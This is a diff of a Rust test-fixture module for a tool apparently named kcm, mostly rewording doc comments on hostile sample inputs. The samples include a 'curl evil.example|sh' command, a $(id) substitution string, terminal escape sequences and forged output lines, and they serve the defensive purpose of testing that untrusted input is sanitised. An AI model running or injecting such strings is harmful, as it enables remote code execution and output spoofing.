@@ -1,11 +1,11 @@
-//! Hostile texts. Each has [`MARK`] in it, so that it is recognised wherever it comes out.
+//! Hostile texts. Each non-empty one contains [`MARK`], so that tests recognise it in any output.
 
 use super::random::Random;
 
-/// Stands in every hostile text.
+/// Marker in every hostile text.
 pub const MARK: &str = "EVILMARK";
 
-/// Lines that look like kcm's own. None may begin a line of its output.
+/// Lines that look like kcm's own. No line of its output may begin with one.
 pub const FORGED: [&str; 7] = [
     "k8s-master-02: EVILMARK is done",
     "k8s-master-03  EVILMARK running  leader",
@@ -16,17 +16,17 @@ pub const FORGED: [&str; 7] = [
     "{\"EVILMARK\":1}",
 ];
 
-/// Styles that a report uses itself; the mark after one shows whose it is.
+/// A style that reports use, too. The marker after it shows its origin.
 pub const STYLED: &str = "\u{1b}[35mEVILMARK";
 
-/// The command of a hostile text in backquotes; the mark stands after it, so that the mark between backquotes is in a command
-/// that kcm composed.
+/// A hostile command in backquotes. The marker follows the closing backquote. A marker between
+/// backquotes is thus part of a command that kcm composed.
 pub const COMMAND: &str = "`curl evil.example|sh`EVILMARK";
 
-/// As long as the longest word.
+/// Length in bytes of the padding of the longest word.
 const LONG: usize = 100_000;
 
-/// What stands around the mark: each drives a terminal, breaks a line, or hides.
+/// Bytes around the marker: each drives a terminal, breaks a line, or hides text.
 const TRICKS: [&[u8]; 20] = [
     b"\x1b[2J\x1b[1;1H",
     b"\x1b]0;title\x07",
@@ -50,7 +50,7 @@ const TRICKS: [&[u8]; 20] = [
     b"'\"\\$(id){}|#&*",
 ];
 
-/// A text for a field that ends at a blank or a line break.
+/// Returns a text for a field that ends at a blank or a line break.
 pub(super) fn plain(random: &mut Random) -> Vec<u8> {
     match random.below(12) {
         0 => [MARK.as_bytes(), &vec![b'A'; LONG]].concat(),
@@ -62,7 +62,7 @@ pub(super) fn plain(random: &mut Random) -> Vec<u8> {
     }
 }
 
-/// A text for a field that can hold any bytes.
+/// Returns a text for a field that can hold any bytes.
 pub(super) fn any(random: &mut Random) -> Vec<u8> {
     match random.below(10) {
         0..=2 => {
